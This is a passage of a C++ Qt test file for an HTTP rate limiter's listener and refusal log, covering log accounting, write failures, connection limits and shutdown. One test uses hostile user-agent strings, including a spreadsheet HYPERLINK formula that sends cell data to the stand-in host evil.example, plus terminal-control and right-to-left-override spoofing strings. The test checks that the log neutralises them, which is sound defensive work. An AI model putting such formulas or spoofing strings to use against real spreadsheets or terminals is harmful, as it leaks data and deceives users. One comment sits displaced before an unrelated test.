            const std::uint64_t refused = refusalsInMetrics(s);
            QVERIFY(refused >= std::uint64_t(Clients * (Batches * Depth - 6)));
            // While running: the sweep (every Tuning::sweepIntervalMs) hands
            // folded refusals over, the writer sums each second up.
            LogAccount a;
            QElapsedTimer wait;
            wait.start();
            do {
                s.log.flush();
                a = readLimiterLog(path);
            } while (a.refusals != refused && wait.elapsed() < 5000 && (QTest::qWait(50), true));
            QCOMPARE(a.refusals, refused);
            QCOMPARE(s.log.dropped(), std::uint64_t(0));
            QVERIFY2(s.log.summarised() > 0, "the flood was summed up");
            QVERIFY2(s.log.folded() > 0, "the rings overflowed (else this test proves less than it says)");
            qInfo("%llu refusals, %llu folded by the listener threads, %llu lines", (unsigned long long)refused,
                  (unsigned long long)s.log.folded(), (unsigned long long)a.lines);
        }
        LogAccount a = readLimiterLog(path);
        QVERIFY(a.ok);
        std::uint64_t total = 0;
        for (int c = 0; c < 4; ++c)
            total += a.byClient["127.0.0." + std::to_string(20 + c)];
        QCOMPARE(a.refusals, total);  // every refusal is its client's (no :: here)
        // Bounded: per client and second, ten lines and a summary (a second
        // may close twice: once on the writer's clock, once when a thread
        // that was behind brings a record of it).
        const std::uint64_t seconds = std::uint64_t(elapsed.elapsed() / 1000) + 2;
        QVERIFY2(a.lines <= 4 * seconds * (Core::Tuning::limiterLogLinesPerClientSecond + 3),
                 (std::to_string(a.lines) + " lines in " + std::to_string(seconds) + " s").c_str());
    }

    // A visitor chooses its user agent and query: opened in a spreadsheet,
    // With no refusals for a second the writer looks 5 times a second, not
    // 50 (an idle server is not woken for nothing), and a refusal after the
    // quiet spell is still written without anyone asking for a flush. The
    // writer is the thread start() adds to this process; its voluntary
    // context switches are its wake-ups.
    void idleWriterWakesRarelyAndStillWrites()
    {
        auto threads = [] {
            std::set<std::string> tids;
            for (const auto& e : std::filesystem::directory_iterator("/proc/self/task"))
                tids.insert(e.path().filename().string());
            return tids;
        };
        const auto before = threads();
        TempLimiterLog t;
        QVERIFY2(t.started, t.error.c_str());
        std::string writer;
        for (const std::string& tid : threads())
            if (!before.count(tid))
                writer = tid;
        QVERIFY(!writer.empty());
        auto wakeups = [&] {
            std::ifstream status("/proc/self/task/" + writer + "/status");
            std::string line;
            while (std::getline(status, line))
                if (line.starts_with("voluntary_ctxt_switches:"))
                    return std::stoll(line.substr(line.find(':') + 1));
            return -1LL;
        };
        std::this_thread::sleep_for(std::chrono::milliseconds(1200));  // a quiet second
        const long long settled = wakeups();
        std::this_thread::sleep_for(std::chrono::seconds(2));
        const long long woken = wakeups() - settled;
        // 10 at 5 a second; polling every 20 ms would be 100.
        QVERIFY2(settled >= 0 && woken <= 25, std::to_string(woken).c_str());

        const Refusal r = throttledGet("/after-a-quiet-spell");
        t.log.push(0, r.decision, r.facts, {}, {}, Core::SystemClock().now());
        QTRY_VERIFY_WITH_TIMEOUT(readLimiterLog(t.path).lines == 1, 2000);
    }

    // limiter.log must not run them as formulas (the list export's guard,
    // from the one CSV writer).
    void limiterLogFieldsNeverBecomeFormulas()
    {
        QTemporaryDir dir;
        const std::string path = dir.filePath(QStringLiteral("limiter.log")).toStdString();
        const std::vector<std::string> agents = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+2", "-2+3", "@SUM(1)", "Mozilla/5.0 =x"};
        {
            Server s(noEscalation(), {}, path);
            for (int i = 0; i < 6; ++i)
                QVERIFY(fetch(s.port(), get("/")));
            for (const std::string& ua : agents)
                QCOMPARE(fetch(s.port(), get("/find?=1+1", "User-Agent: " + ua + "\r\n")).value_or(Response{}).status, 429);
            s.log.flush();
        }
        std::ifstream in(path, std::ios::binary);
        const std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
        std::vector<Wire::Csv::Record> records;
        std::string error;
        QVERIFY2(Wire::Csv::read(text, records, error), error.c_str());
        QCOMPARE(records.size(), agents.size() + 1);
        // Each listener thread has its own queue, so lines from requests on
        // different connections may be written in any order: find each
        // agent's line by its user agent.
        for (std::size_t i = 0; i < agents.size(); ++i) {
            const auto it = std::find_if(records.begin() + 1, records.end(), [&](const Wire::Csv::Record& r) {
                return r.fields.size() == 12 && Wire::Csv::restoreField(r.fields[8]) == agents[i];
            });
            QVERIFY2(it != records.end(), (agents[i] + " is not in the log:\n" + text).c_str());
            const auto& f = it->fields;
            const std::string& ua = f[8];
            const bool formula = std::string_view("=+-@").find(agents[i][0]) != std::string_view::npos;
            QVERIFY2(std::string_view("=+-@\t\r").find(ua[0]) == std::string_view::npos, ua.c_str());  // no cell starts a formula
            QCOMPARE(QString::fromStdString(ua), QString::fromStdString(formula ? "'" + agents[i] : agents[i]));
            QCOMPARE(QString::fromStdString(Wire::Csv::restoreField(ua)), QString::fromStdString(agents[i]));
            QCOMPARE(QString::fromStdString(f[7]), QStringLiteral("'=1+1"));  // the query
        }
    }

    // What a visitor may put in a header and a terminal obeys (a tab, a C1
    // CSI, a right-to-left override, bytes that are no UTF-8) is written as
    // a visible escape (Core::printable), so `tail -f limiter.log` shows it
    // rather than obeys it; other text is kept (docs/INTERFACE.md).
    void limiterLogFieldsShowControlsAsEscapes()
    {
        QTemporaryDir dir;
        const std::string path = dir.filePath(QStringLiteral("limiter.log")).toStdString();
        const std::vector<std::pair<std::string, std::string>> agents = {
            {"tab\there", "tab\\there"},
            {"csi \xc2\x9b" "2J", "csi \\u{9B}2J"},
            {"rlo \xe2\x80\xae" "gpj.exe", "rlo \\u{202E}gpj.exe"},
            {"bad \xff\xfe", "bad \\xFF\\xFE"},
            {"caf\xc3\xa9 \xe2\x82\xac", "caf\xc3\xa9 \xe2\x82\xac"},
        };
        {
            Server s(noEscalation(), {}, path);
            for (int i = 0; i < 6; ++i)
                QVERIFY(fetch(s.port(), get("/")));
            for (const auto& [ua, shown] : agents)
                QCOMPARE(fetch(s.port(), get("/find?q=\xe2\x80\xae", "User-Agent: " + ua + "\r\n")).value_or(Response{}).status, 429);
            s.log.flush();
        }
        std::ifstream in(path, std::ios::binary);
        const std::string text((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
        for (const unsigned char c : text)
            QVERIFY2(c >= 0x20 || c == '\r' || c == '\n', text.c_str());  // CRLF ends each line; nothing else below 0x20
        for (const std::string_view raw : {"\xc2\x9b", "\xe2\x80\xae", "\xff"})
            QVERIFY2(text.find(raw) == std::string::npos, text.c_str());
        std::vector<Wire::Csv::Record> records;
        std::string error;
        QVERIFY2(Wire::Csv::read(text, records, error), error.c_str());
        QCOMPARE(records.size(), agents.size() + 1);
        for (const auto& [ua, shown] : agents) {
            const auto it = std::find_if(records.begin() + 1, records.end(), [&](const Wire::Csv::Record& r) {
                return r.fields.size() == 12 && r.fields[8] == shown;
            });
            QVERIFY2(it != records.end(), (shown + " is not in the log:\n" + text).c_str());
            QCOMPARE(QString::fromStdString(it->fields[7]), QStringLiteral("q=\\u{202E}"));  // the query
        }
    }

    // A full disk, a quota or the file size limit: lines the file did not
    // take are counted as failed (never as written), said once, and the
    // file stays whole lines so the next record starts on its own line.
    // RLIMIT_FSIZE plays the full disk: no root, no mount.
    void limiterLogWriteFailuresAreCountedSaidAndHealed()
    {
        TempLimiterLog t;
        QVERIFY2(t.started, t.error.c_str());
        Http::LimiterLog& log = t.log;
        const std::string& path = t.path;
        std::string why;
        Refusal r = throttledGet("/");
        const Core::Decision& d = r.decision;
        Core::RequestFacts& f = r.facts;
        // One refusal a second: each has a line of its own (a faster client
        // gets a summary line past Tuning::limiterLogLinesPerClientSecond).
        Core::Millis at = 1'700'000'000'000;
        auto push = [&](int n, std::string_view agent) {
            f.userAgent = agent;
            for (int i = 0; i < n; ++i, at += Core::SECOND)
                log.push(0, d, f, {}, {}, at);
            log.flush();
        };
        push(10, "before");
        QCOMPARE(log.written(), std::uint64_t(10));
        QCOMPARE(log.failed(), std::uint64_t(0));
        QVERIFY(!log.lastProblem());

        const auto size = std::filesystem::file_size(path);
        ::signal(SIGXFSZ, SIG_IGN);  // EFBIG instead of the signal's default (dumping core)
        rlimit old{};
        ::getrlimit(RLIMIT_FSIZE, &old);
        rlimit tight = old;
        tight.rlim_cur = rlim_t(size + 150);  // room for about one and a half lines
        QCOMPARE(::setrlimit(RLIMIT_FSIZE, &tight), 0);
        push(20, "during");
        QVERIFY(log.failing());
        QVERIFY2(log.failed() > 0, "lines the file did not take are counted as failed");
        QCOMPARE(log.written() + log.failed(), std::uint64_t(30));
        const auto problem = log.lastProblem();
        QVERIFY(problem);
        QVERIFY2(problem->message.find("File too large") != std::string::npos, problem->message.c_str());
        QVERIFY2(problem->message.find(path) != std::string::npos, problem->message.c_str());
        const std::uint64_t serial = problem->serial;
        push(5, "still full");  // the same episode: not said again
        QCOMPARE(log.lastProblem()->serial, serial);

        QCOMPARE(::setrlimit(RLIMIT_FSIZE, &old), 0);  // space again
        push(3, "after");
        QVERIFY(!log.failing());
        QCOMPARE(log.written() + log.failed(), std::uint64_t(38));
        Core::EngineConfig config = noEscalation();
        Core::Engine engine(config);
        Http::ListenerMetrics metrics(1);
        const std::string text = metrics.render(engine, &log, Core::Millis(1'700'000'100'000));
        QVERIFY2(text.find("floodgate_limiter_log_lines_total{result=\"failed\"} " + std::to_string(log.failed()) + "\n") != std::string::npos,
                 text.c_str());
        QVERIFY2(text.find("floodgate_limiter_log_failing 0\n") != std::string::npos, text.c_str());
        log.stop();

        // On disk: the header and exactly the written lines, each whole.
        std::ifstream in(path, std::ios::binary);
        const std::string content((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
        QVERIFY(content.ends_with("\r\n"));
        std::vector<Wire::Csv::Record> records;
        QVERIFY2(Wire::Csv::read(content, records, why), why.c_str());
        QCOMPARE(records.size(), std::size_t(1 + log.written()));
        for (std::size_t i = 1; i < records.size(); ++i)
            QCOMPARE(records[i].fields.size(), std::size_t(12));
        QCOMPARE(QString::fromStdString(records.back().fields[8]), QStringLiteral("after"));
    }

    // A file a crash or a full disk left cut inside a record: the next
    // start begins on a line of its own, so the cut record stays the only
    // damaged one.
    void aLimiterLogEndingMidRecordIsContinuedOnANewLine()
    {
        QTemporaryDir dir;
        const std::string path = dir.filePath(QStringLiteral("limiter.log")).toStdString();
        {
            std::ofstream out(path, std::ios::binary);
            out << Http::LimiterLogHeader << "\r\n" << "2026-11-23T10:00:00.000Z,throttle,ip-3s,203.0.";
        }
        Http::LimiterLog log(path, 1);
        std::string why;
        QVERIFY2(log.start(&why), why.c_str());
        Refusal r = throttledGet("/next");
        const Core::Decision& d = r.decision;
        Core::RequestFacts& f = r.facts;
        log.push(0, d, f, {}, {}, Core::Millis(1'700'000'000'000));
        log.flush();
        log.stop();
        std::ifstream in(path, std::ios::binary);
        const std::string content((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
        std::vector<Wire::Csv::Record> records;
        QVERIFY2(Wire::Csv::read(content, records, why), why.c_str());
        QCOMPARE(records.size(), std::size_t(3));  // header, the cut record, the new one
        QCOMPARE(records[1].fields.size(), std::size_t(4));
        QCOMPARE(records[2].fields.size(), std::size_t(12));
        QCOMPARE(QString::fromStdString(records[2].fields[6]), QStringLiteral("/next"));
        QCOMPARE(std::count(content.begin(), content.end(), '\n'), std::ptrdiff_t(3));
    }

    void theEventRingKeepsTheNewestWithConsecutiveIds()
    {
        // More refusals than the ring keeps: ids stay consecutive, the
        // oldest are overwritten, and "after id N, at most L" is exact.
        Http::LimiterLog log(std::string(), 1, 4096);
        std::string why;
        QVERIFY(log.start(&why));
        Refusal r = throttledGet("/");
        const Core::Decision& d = r.decision;
        Core::RequestFacts& f = r.facts;
        const std::size_t capacity = Core::Tuning::maxEventsKept;
        const std::uint64_t total = capacity + 2'500;
        for (std::uint64_t i = 1; i <= total; ++i) {
            log.push(0, d, f, {}, {}, Core::Millis(i));
            if (i % 4000 == 0)
                log.flush();  // the ring between listener and writer holds 4,096
        }
        log.flush();
        QCOMPARE(log.lastEventId(), total);
        const auto all = log.events(0, SIZE_MAX);
        QCOMPARE(all.size(), capacity);
        QCOMPARE(all.front().id, total - capacity + 1);  // the oldest kept
        QCOMPARE(all.back().id, total);
        for (std::size_t i = 0; i < all.size(); ++i) {
            QCOMPARE(all[i].id, all.front().id + i);
            QCOMPARE(all[i].record.time, Core::Millis(all[i].id));  // each slot holds its own event
        }
        const auto after = log.events(total - 10, 100);  // the last ten
        QCOMPARE(after.size(), std::size_t(10));
        QCOMPARE(after.front().id, total - 9);
        const auto newest = log.events(0, 3);  // a limit keeps the newest
        QCOMPARE(newest.size(), std::size_t(3));
        QCOMPARE(newest.front().id, total - 2);
        QVERIFY(log.events(total, 100).empty());
        QVERIFY(log.events(UINT64_MAX, 100).empty());
        QVERIFY(log.events(0, 0).empty());
        log.stop();
    }

    void dryRunLetsEverythingThrough()
    {
        Core::EngineConfig c = noEscalation();
        c.settings.dryRun = true;
        Server s(c);
        for (int i = 0; i < 10; ++i) {
            auto r = fetch(s.port(), get("/"));
            QVERIFY(r);
            QCOMPARE(r->status, 200);
        }
        QCOMPARE(s.engine.counters(Core::SystemClock().now()).decisions[std::size_t(Core::Action::DryRun)], std::uint64_t(4));
    }

    void portInUseIsReported()
    {
        Server first(noEscalation());
        Http::ListenerOptions o;
        o.port = first.port();
        o.threads = 1;
        Core::Engine engine;
        // SO_REUSEPORT lets two sockets of the same user share a port; a
        // different address family/port combination must still fail cleanly
        // when the port is held by a non-reuseport socket.
        const int fd = listenOnLoopback(1, o.port);
        QVERIFY(fd >= 0);
        Http::Listener l(engine, o, nullptr, nullptr);
        std::string why;
        QVERIFY(!l.start(&why));
        QVERIFY2(why.find("cannot listen on 127.0.0.1:") == 0, why.c_str());
        ::close(fd);
    }

    void runningOutOfFileDescriptorsBacksOffAndRecovers()
    {
        Server s(noEscalation());
        rlimit saved{};
        QCOMPARE(::getrlimit(RLIMIT_NOFILE, &saved), 0);
        // Leave room for a handful of descriptors only, then connect more
        // clients than fit: the server's accept() fails with EMFILE.
        int open = 0;
        for (int fd = 0; fd < 4096; ++fd)
            if (::fcntl(fd, F_GETFD) != -1)
                ++open;
        rlimit tight = saved;
        tight.rlim_cur = rlim_t(open + 12);
        QCOMPARE(::setrlimit(RLIMIT_NOFILE, &tight), 0);
        std::vector<std::unique_ptr<Connection>> clients;
        for (int i = 0; i < 12; ++i) {
            auto c = std::make_unique<Connection>();
            if (c->open(s.port()))
                clients.push_back(std::move(c));
        }
        QTRY_VERIFY_WITH_TIMEOUT(s.metrics.acceptErrors.load() > 0, 3000);
        clients.clear();
        QCOMPARE(::setrlimit(RLIMIT_NOFILE, &saved), 0);
        // The listener backed off and kept its port: it serves again.
        std::optional<Response> r;
        for (int i = 0; i < 20 && !r; ++i) {
            r = fetch(s.port(), get("/"), 1000);
            if (!r)
                QTest::qWait(100);
        }
        QVERIFY(r);
        QCOMPARE(r->status, 200);
    }

    // Issue 28.6: /metrics counts an automatic ban's refusals under
    // "automatic ban", as replay's report does, not under "blocklist" (an
    // operator's block's name).
    void metricsNameAutomaticBansAsReplayDoes()
    {
        Core::EngineConfig c = Core::defaultConfig();
        c.escalation.refusals = 1;  // the first refusal bans
        Server s(c);
        QVERIFY2(s.started, s.error.c_str());
        int refused = 0;
        for (int i = 0; i < 9; ++i)
            refused += fetch(s.port(), get("/"), 3000, "127.0.0.31").value_or(Response{}).status == 403;
        QVERIFY2(refused >= 1, "the client was not banned");
        const std::string text = s.metrics.render(s.engine, &s.log, Core::Millis(0));
        QVERIFY2(text.find("floodgate_refusals_total{action=\"block\",rule=\"automatic ban\"} " + std::to_string(refused)) != std::string::npos,
                 text.c_str());
        QVERIFY2(text.find("rule=\"blocklist\"") == std::string::npos, text.c_str());
    }

    void stopWaitsForABusyThreadWithoutCrashing()
    {
        // A thread busy for longer than stop()'s 500 ms look at it: here the
        // auto-ban listener (called on the deciding thread) takes 1.5 s.
        // stop() must wait for it within its deadline and touch nothing that
        // is gone when the thread comes back.
        Core::EngineConfig c = Core::defaultConfig();
        c.escalation.refusals = 1;  // the first refusal bans
        Core::Engine engine(c);
        std::atomic<bool> busy{false};
        engine.onAutomaticBan([&](const Core::ListEntry&) {
            busy = true;
            std::this_thread::sleep_for(std::chrono::milliseconds(1500));
        });
        Http::ListenerOptions o;
        o.port = 0;
        o.threads = 1;
        o.shutdownDeadlineMs = 3000;
        Http::Listener l(engine, o, nullptr, nullptr);
        std::string why;
        QVERIFY2(l.start(&why), why.c_str());
        Connection idle(l.port());
        Connection client(l.port());
        std::string seven;
        for (int i = 0; i < 7; ++i)
            seven += get("/");
        QVERIFY(client.send(seven));
        QTRY_VERIFY_WITH_TIMEOUT(busy.load(), 3000);
        QElapsedTimer t;
        t.start();
        l.stop();
        QVERIFY2(t.elapsed() >= 1000, "stop() waited for the busy thread");
        QVERIFY2(t.elapsed() < 3000, "and ended once it was idle, before the deadline");
        QVERIFY(idle.closedByPeer(1000));
        // The listener starts again on the same objects after such a stop.
        QVERIFY2(l.start(&why), why.c_str());
        auto r = fetch(l.port(), get("/"), 3000, "127.0.0.2");
        QVERIFY(r);
        QCOMPARE(r->status, 200);
        l.stop();
    }

    void theConnectionCapHoldsWithoutMetrics()
    {
        Core::Engine engine(noEscalation());
        Http::ListenerOptions o;
        o.port = 0;
        o.threads = 2;
        o.maxConnections = 3;
        o.shutdownDeadlineMs = 500;
        Http::Listener l(engine, o, nullptr, nullptr);  // no metrics object
        std::string why;
        QVERIFY2(l.start(&why), why.c_str());
        std::vector<std::unique_ptr<Connection>> open;
        for (int i = 0; i < 3; ++i) {
            open.push_back(std::make_unique<Connection>(l.port()));
            QVERIFY(open.back()->send(get("/")));
            auto r = open.back()->read();
            QVERIFY(r);
            QCOMPARE(r->status, 200);
        }
        Connection over(l.port());
        over.send(get("/"));
        QVERIFY2(!over.read(1000), "the fourth connection is not served");
        QVERIFY(over.closedByPeer(1000));
        open.front()->close();
        open.erase(open.begin());
        std::optional<Response> r;
        for (int i = 0; i < 20 && !r; ++i) {  // the server notices the close on its next read
            r = fetch(l.port(), get("/"), 500, "127.0.0.2");
            if (!r)
                QTest::qWait(50);
        }
        QVERIFY(r);
        QCOMPARE(r->status, 200);
        l.stop();
    }

    void stopIsGracefulAndQuick()
    {
        auto s = std::make_unique<Server>(noEscalation());
        Connection idle(s->port());
        QVERIFY(idle.isOpen());
        QElapsedTimer t;
        t.start();
        s->listener->stop();
        QVERIFY(t.elapsed() < 2000);
        QVERIFY(idle.closedByPeer(1000));
    }
};

QTEST_APPLESS_MAIN(TestListener)
#include "test_listener.moc"
